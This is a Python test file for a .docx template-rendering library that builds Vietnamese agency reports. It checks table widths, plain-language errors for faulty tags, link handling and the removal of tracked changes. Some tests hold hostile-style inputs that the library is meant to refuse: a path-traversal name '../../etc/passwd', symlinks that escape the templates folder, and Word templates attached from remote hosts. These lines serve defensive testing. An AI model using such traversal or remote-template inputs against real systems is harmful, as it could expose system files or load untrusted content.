def test_a_picture_or_a_page_break_beside_a_tag_stays(beside: str, kept: str) -> None:
    body = f"<w:p>{beside}<w:r><w:t>{{%p if x %}}</w:t></w:r></w:p><w:p><w:r><w:t>y</w:t></w:r></w:p>"
    body += "<w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p><w:p>"
    template = Template(with_document("THERE", lambda xml: xml.replace("<w:body><w:p>", f"<w:body>{body}", 1)))
    for x, count in ((1, 1), (0, 0)):
        document = Document(io.BytesIO(template.render({"x": x}, title="t")))
        assert len(document.element.findall(f".//{qn(kept)}")) == count
        assert [p.text.strip() for p in document.paragraphs if p.text.strip()] == ["y", "THERE"][1 - x :]


def test_a_page_that_begins_with_a_tag_begins_with_what_follows_it() -> None:
    tags = "<w:p><w:pPr><w:pStyle w:val='x'/><w:pageBreakBefore/></w:pPr><w:r><w:t>{%p if x %}</w:t></w:r></w:p>"
    tags += "<w:p><w:r><w:t>{%p endif %}</w:t></w:r></w:p><w:p>"
    template = Template(with_document("THERE", lambda xml: xml.replace("<w:body><w:p>", f"<w:body>{tags}", 1)))
    document = Document(io.BytesIO(template.render({"x": 1}, title="t")))
    properties = document.paragraphs[0]._p.pPr
    assert [one.tag for one in properties] == [qn("w:pageBreakBefore"), qn("w:spacing"), qn("w:rPr")]


# -- grids -------------------------------------------------------------------------------------------------------------


def grid_of(columns: list[str], rows: list[list[str]]) -> list[int]:
    docx = Template(build_template("grid: g")).render({"g": {"columns": columns, "rows": rows}}, title="t")
    grid = Document(io.BytesIO(docx)).tables[0]._tbl.tblGrid
    return [int(column.get(qn("w:w"))) for column in grid.iter(qn("w:gridCol"))]


def test_cells_of_a_grid_have_no_width_of_their_own() -> None:
    def fix(xml: str) -> str:
        return xml.replace('<w:tcW w:w="0" w:type="auto"/>', '<w:tcW w:type="dxa" w:w="1328"/>')

    docx = Template(with_part(build_template("grid: g"), "word/document.xml", fix)).render(
        {"g": {"columns": ["a", "b"], "rows": [["1", "c"]]}}, title="t"
    )
    widths = {cell.get(qn("w:w")) for cell in Document(io.BytesIO(docx)).element.iter(qn("w:tcW"))}
    assert widths == {"0"}


def test_one_long_word_takes_a_third_of_the_page_and_no_more() -> None:
    columns = ["STT", "Đơn vị", "Địa bàn", "Nội dung còn thiếu"]
    widths = grid_of(columns, [["1", "x" * 100, "Thành phố Lạng Sơn", "chưa gửi báo cáo; chưa ký cam kết " * 3]])
    assert sum(widths) == 9298
    assert widths[0] >= width("STT", 12, bold=True)
    assert widths[2] >= width("Thành phố Lạng Sơn", 12)
    assert 9298 // 3 <= widths[1] <= 9298 // 2


def test_a_name_has_what_the_numbers_beside_it_do_not_need(facts: Facts) -> None:
    (areas,) = facts["report/monthly"]["appendix"]["tables"]
    columns = ["STT", "Địa bàn", "Số đơn vị", "Đã nhận văn bản", "Đề nghị ký cam kết", "Đã ký cam kết", "Tỷ lệ (%)",
               "Lượt kiểm tra", "Hành vi vi phạm", "Nhiệm vụ quá hạn"]  # fmt: skip
    widths = grid_of(columns, [[str(n), "Huyện Tràng Định", *["120"] * 8] for n in range(len(areas["rows"]))])
    assert sum(widths) == 9298
    assert widths[1] >= width("Huyện Tràng Định", 12) + 140, "on one line, with the padding of its cell"
    for heading, one in zip(columns, widths, strict=True):
        assert one >= max(width(word, 12, bold=True) for word in heading.split()) + 140


def test_many_wide_columns_share_the_page_and_the_narrow_ones_keep_theirs() -> None:
    widths = grid_of(["STT", *"abcd"], [["1", *["x" * 40] * 4]])
    assert sum(widths) == 9298
    assert widths[0] >= width("STT", 12, bold=True)
    assert max(widths[1:]) - min(widths[1:]) <= 4


def test_the_template_of_the_workspace_wins(tmp_path: Any) -> None:
    own = tmp_path / "templates" / "dispatch" / "letter.docx"
    own.parent.mkdir(parents=True)
    own.write_bytes(build_template("doc_subject: Riêng {{ subject }}"))
    assert texts(shipped_template("dispatch/letter", tmp_path).render({"subject": "của Sở"}, title="t")) == [
        "Riêng của Sở"
    ]
    assert shipped_template("pledge/form", tmp_path) is shipped_template("pledge/form")


@pytest.mark.parametrize("name", ["dispatch/none", "../../etc/passwd"])
def test_an_unknown_template_is_not_found(name: str, tmp_path: Any) -> None:
    with pytest.raises(NotFoundError):
        shipped_template(name, tmp_path)


@pytest.mark.parametrize("ending", ["docx", "j2"])
def test_a_link_that_leaves_the_folder_is_refused_and_never_passed_over(ending: str, tmp_path: Any) -> None:
    folder, outside = tmp_path / "ws" / "templates" / "pledge", tmp_path / f"form.{ending}"
    folder.mkdir(parents=True)
    outside.write_bytes(build_template("paragraph: {{ x }}") if ending == "docx" else b"paragraph: {{ x }}")
    (folder / f"form.{ending}").symlink_to(outside)
    with pytest.raises(DocumentError, match=rf"pledge/form\.{ending} is a link that points outside the folder"):
        shipped_template("pledge/form", tmp_path / "ws")
    outside.unlink()
    with pytest.raises(DocumentError, match=r"pledge/form\."):
        shipped_template("pledge/form", tmp_path / "ws")


def test_a_link_within_the_folder_is_followed(tmp_path: Any) -> None:
    folder = tmp_path / "templates" / "pledge"
    folder.mkdir(parents=True)
    (folder / "form-2020.docx").write_bytes(build_template("paragraph: Riêng {{ code }}"))
    (folder / "form.docx").symlink_to("form-2020.docx")
    assert texts(shipped_template("pledge/form", tmp_path).render({"code": "của Sở"}, title="t")) == ["Riêng của Sở"]


# -- the place of what fails -------------------------------------------------------------------------------------------

GIVEN: dict[str, Any] = {
    "unit": {"name": "A", "parent": "", "has_parent": True}, "head": {"agency": "Sở"}, "addressees": ["x"], "code": "C",
    "commitments": ["a", "b"], "tasks": [{"due": "1/6"}],
}  # fmt: skip
RIGHT = """{% for c in commitments %}
paragraph: {{ loop.index }}. {{ c }} của {{ unit.name }}
{% endfor %}
{% if unit.has_parent and addressees and not unit.parent and code %}
paragraph: Đúng {{ unit.name }} {{ head.agency }}
{% endif %}
"""


def refused_for(tag: str) -> DocumentError:
    """What is said of a tag behind tags that use the same names rightly."""
    with pytest.raises(DocumentError) as refused:
        Template(build_template(f"{RIGHT}paragraph: Chỗ này {tag}"), "own.docx").render(GIVEN, title="t")
    return refused.value


@pytest.mark.parametrize("early", [False, True])
@pytest.mark.parametrize(
    ("tag", "field", "hint"),
    [
        ("{{ uni.name }}", "uni.name", "did you mean unit.name?"),
        ("{{ heads.agency }}", "heads.agency", "did you mean head.agency?"),
        ("{{ unit.nmae|upper }}", "unit.nmae", "did you mean unit.name?"),
        ("{{ nosuch.field }}", "nosuch.field", "the fields are: addressees[], code, "),
        ("{{ unit.name ~ units.name }}", "units.name", "did you mean unit.name?"),
        ("{% for t in tasks %}{{ t.deu }}{% endfor %}", "t.deu", "did you mean t.due?"),
        ("{% if uni.name %}x{% endif %}", "uni.name", "did you mean unit.name?"),
        ("{% for t in taskz %}x{% endfor %}", "taskz", "did you mean tasks?"),
    ],
)
def test_a_field_that_there_is_not_is_named_whole_at_its_own_tag(tag: str, field: str, hint: str, early: bool) -> None:
    if early:
        with pytest.raises(DocumentError) as found:
            Template(build_template(f"{RIGHT}paragraph: Chỗ này {tag}"), "own.docx").require(GIVEN)
        refused = found.value
    else:
        refused = refused_for(tag)
    assert refused.message == (f"The template own.docx uses an unknown field: {field}, at «Chỗ này {tag}»")
    assert hint in refused.hint


def test_a_loop_counts_within_it_only() -> None:
    refused = refused_for("{{ loop.index }}")
    assert "unknown field: loop.index, at «Chỗ này {{ loop.index }}»" in refused.message
    assert "between `for` and `endfor`" in refused.hint


@pytest.mark.parametrize(
    ("tag", "field"),
    [
        ("{{ addressees }}", "addressees"),
        ("{{ commitments }}", "commitments"),
        ("{{ code ~ commitments }}", "commitments"),
        ("{{ unit.has_parent }}", "unit.has_parent"),
        ("{{ not unit.parent }}", "not unit.parent"),
        ("{{ code == unit.name }}", "code == unit.name"),
        ("{{ code|figure }}", "code|figure"),
    ],
)
def test_what_is_no_text_is_named_as_it_is_written_at_its_own_tag(tag: str, field: str) -> None:
    message = refused_for(tag).message
    assert message.startswith(f"The template own.docx prints {field}, which is not text but ")
    assert message.endswith(f", at «Chỗ này {tag}»")


@pytest.mark.parametrize(
    ("tag", "said"),
    [
        ("{{ unit.name - 1 }}", "values of different kinds are counted or compared: text, numbers, lists"),
        ("{{ code < 3 }}", "values of different kinds are counted or compared: text, numbers, lists"),
        ("{{ code|balanced }}", "a filter has too few or too many values between its brackets"),
        ("{{ code|uper }}", "there is no filter uper"),
        ("{% if code %}{{ code|uper }}{% endif %}", "there is no filter uper"),
        ("{% if code is definedd %}x{% endif %}", "there is no test definedd"),
        ("{% if code %}x", "a tag opens something that is never closed"),
        ("{% endif %}", "endif is outside of its block"),
        ("{% oops %}", "a template supports if, elif, else and for, not oops"),
        ("{{ code", "the tag is not closed"),
        ("{{ (code }}", "«}» is not allowed there in a tag"),
        ("{{ code + }}", "something is missing at the end of the tag"),
        ("{{ code code }}", "«code» is not allowed there in a tag"),
        ("{{ code ! }}", "«!» is not allowed in a tag"),
        ("{{ range(3) }}", "a template cannot call a function: range"),
        ("{{ code * 3 }}", "a template may print fields and use conditions and loops, but not *"),
        ("{% set code = 3 %}", "a template may print fields and use conditions and loops, but not set"),
    ],
)
def test_an_unreadable_tag_is_reported_in_plain_language_with_its_place(tag: str, said: str) -> None:
    message = refused_for(tag).message
    assert message.startswith(f"The template own.docx is wrong: {said}, at «Chỗ này {{")


def test_a_rule_stands_in_a_paragraph_without_properties_too() -> None:
    tag = "<w:p><w:r><w:t>{{ x|rule(9298, 14, true) }}</w:t></w:r></w:p><w:p>"
    docx = with_document("THERE", lambda xml: xml.replace("<w:body><w:p>", f"<w:body>{tag}", 1))
    document = Document(io.BytesIO(Template(docx).render({"x": "Kết quả kiểm tra"}, title="t")))
    sides = document.paragraphs[0].paragraph_format
    assert sides.left_indent == sides.right_indent
    assert sides.left_indent.twips > 3000


def test_a_rule_without_its_measures_is_told_as_it_is_written() -> None:
    message = refused_for("{{ code|rule(3) }}").message
    assert message.endswith("a filter has too few or too many values between its brackets, at «code|rule(3)»")


# -- links that a clerk wrote with a tag -------------------------------------------------------------------------------


def linked(target: str) -> Template:
    link = f'<Relationship Id="r9" Type="{OFFICE}/hyperlink" Target="{target}" TargetMode="External"/></Relationships>'
    words = '<w:p><w:hyperlink r:id="r9"><w:r><w:t>Liên hệ</w:t></w:r></w:hyperlink></w:p>'
    docx = with_document("{{ x }}", lambda xml: xml.replace("<w:body>", f"<w:body>{words}", 1))
    return Template(with_part(docx, RELATIONS, lambda xml: xml.replace("</Relationships>", link)), "own.docx")


@pytest.mark.parametrize(
    ("target", "address"),
    [
        ("mailto:{{ x }}", "mailto:so@ls.vn"),
        ("mailto:%7b%7b%20x%20%7d%7d?subject=a%20b", "mailto:so@ls.vn?subject=a%20b"),
        ("https://so.vn/{{ x }}/{{ n }}#&apos;", "https://so.vn/so@ls.vn/5#'"),
        ("http://template/%7B%7B%20web%20%7D%7D", "https://ls.vn"),
        ("{{ web }}", "https://ls.vn"),
        ("{{ web|upper|lower }}?a=1&amp;b={{ n }}", "https://ls.vn?a=1&b=5"),
    ],
)
def test_what_stands_around_the_tag_of_a_link_is_kept(target: str, address: str) -> None:
    docx = linked(target).render({"x": "so@ls.vn", "n": 5, "web": "https://ls.vn"}, title="t")
    links = [link.address for p in Document(io.BytesIO(docx)).paragraphs for link in p.hyperlinks]
    assert links == [address]


@pytest.mark.parametrize(
    ("target", "value", "said"),
    [
        ("mailto:{{ x }}", "", "has a link with an empty address, at «Liên hệ»"),
        ("{{ x }}", "", "has a link with an empty address, at «Liên hệ»"),
        (
            "https://so.vn/{{ x }}",
            "a b",
            "links to «https://so.vn/a b», which is not the address of a page or mailbox, at",
        ),
        ("{{ x }}", "so.vn", "links to «so.vn», which is not the address of a page or mailbox, at «Liên hệ»"),
        ("mailto:{{ x }}", ["a"], "prints x, which is not text but a list, at «Liên hệ»"),
        ("mailto:{{ x.y }}", {}, "an unknown field: x.y, at «Liên hệ»"),
    ],
)
def test_a_link_that_leads_nowhere_names_the_template_and_the_place(target: str, value: Any, said: str) -> None:
    with pytest.raises(DocumentError) as refused:
        linked(target).render({"x": value}, title="t")
    assert refused.value.message.startswith("The template own.docx ")
    assert said in refused.value.message


# -- what Word leaves in a file ----------------------------------------------------------------------------------------


def attached(target: str) -> bytes:
    """A template that names the template it was made from, as Word does."""
    element = (
        '<w:attachedTemplate xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="a1"/>'
    )
    docx = with_part(
        build_template("paragraph: {{ x }}"),
        "word/settings.xml",
        lambda xml: re.sub(r"(<w:settings[^>]*>)", rf"\1{element}", xml, count=1),
    )
    out = io.BytesIO(docx)
    relation = f'<Relationship Id="a1" Type="{OFFICE}/attachedTemplate" Target="{target}" TargetMode="External"/>'
    with zipfile.ZipFile(out, "a") as package:
        spaces = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
        package.writestr("word/_rels/settings.xml.rels", f"<Relationships {spaces}>{relation}</Relationships>")
    return out.getvalue()


@pytest.mark.parametrize(
    "place",
    [
        "file:///C:\\Nguyễn An\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
        "Normal.dotm",
        "file:///D:/x/NORMAL.DOT",
    ],
)
def test_the_usual_template_of_word_is_let_go_and_stands_in_no_letter(place: str) -> None:
    assert Proof(attached(place), "own.docx").flaws({"x"}) == []
    docx = Template(attached(place)).render({"x": "a"}, title="t")
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        whole = b"".join(package.read(name) for name in package.namelist())
    assert b"ttachedTemplate" not in whole
    assert b"ormal.dot" not in whole
    assert texts(docx) == ["a"]


@pytest.mark.parametrize(
    "place", ["file:///\\\\may-chu\\Normal.dotm", "https://x.example/Normal.dotm", "file:///C:/x/Other.dotm"]
)
def test_any_other_template_of_word_is_refused(place: str) -> None:
    with pytest.raises(DocumentError, match="fetches another file"):
        Template(attached(place))


MARKS = 'w:id="1" w:author="Trần B" w:date="2020-05-01T00:00:00Z"'
REVIEWED = {
    "deleted words": f"<w:del {MARKS}><w:r><w:delText>Bỏ {{{{ x }}}}</w:delText></w:r></w:del>",
    "inserted words": f"<w:ins {MARKS}><w:r><w:t>Thêm</w:t></w:r></w:ins>",
    "moved words": f"<w:moveFrom {MARKS}><w:r><w:t>Chuyển</w:t></w:r></w:moveFrom>",
    "a changed face": f"<w:r><w:rPr><w:b/><w:rPrChange {MARKS}><w:rPr/></w:rPrChange></w:rPr><w:t>Đậm</w:t></w:r>",
    "a comment": '<w:r><w:commentReference w:id="1"/></w:r>',
}


@pytest.mark.parametrize("kind", REVIEWED)
def test_tracked_changes_and_comments_are_found_and_go_out_in_no_letter(kind: str) -> None:
    docx = with_document("{{ x }} ở đây", lambda xml: xml.replace("</w:p>", f"{REVIEWED[kind]}</w:p>", 1))
    with pytest.raises(
        DocumentError, match=r"contains tracked changes or comments, in the body at «.*ở đây"
    ) as refused:
        Template(docx, "own.docx")
    assert "accept or reject the changes and delete the comments in Word" in refused.value.hint
    what = "a comment" if kind == "a comment" else "a tracked change"
    found = Proof(docx, "own.docx").flaws({"x"})
    assert [(one.kind, one.what) for one in found] == [("review", what)]
    assert found[0].where.startswith("the body: «{{ x }} ở đây")


def test_a_comment_that_stands_nowhere_is_found_by_its_words() -> None:
    comment = '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="1">'
    out = io.BytesIO(build_template("paragraph: {{ x }}"))
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(
            "word/comments.xml", f"{comment}<w:p><w:r><w:t>Hỏi {{{{ y }}}}</w:t></w:r></w:p></w:comment></w:comments>"
        )
    found = Proof(out.getvalue(), "own.docx").flaws({"x"})
    assert [(one.kind, one.where) for one in found] == [("review", "the comments: «Hỏi {{ y }}»")]
    with pytest.raises(DocumentError, match="in the comments at «Hỏi"):
        Template(out.getvalue())


def test_relations_beyond_all_measure_are_not_read() -> None:
    with pytest.raises(RefusedXmlError):
        relations(b"<Relationships>" + b"<a/>" * (MAX_ELEMENTS + 1) + b"</Relationships>")
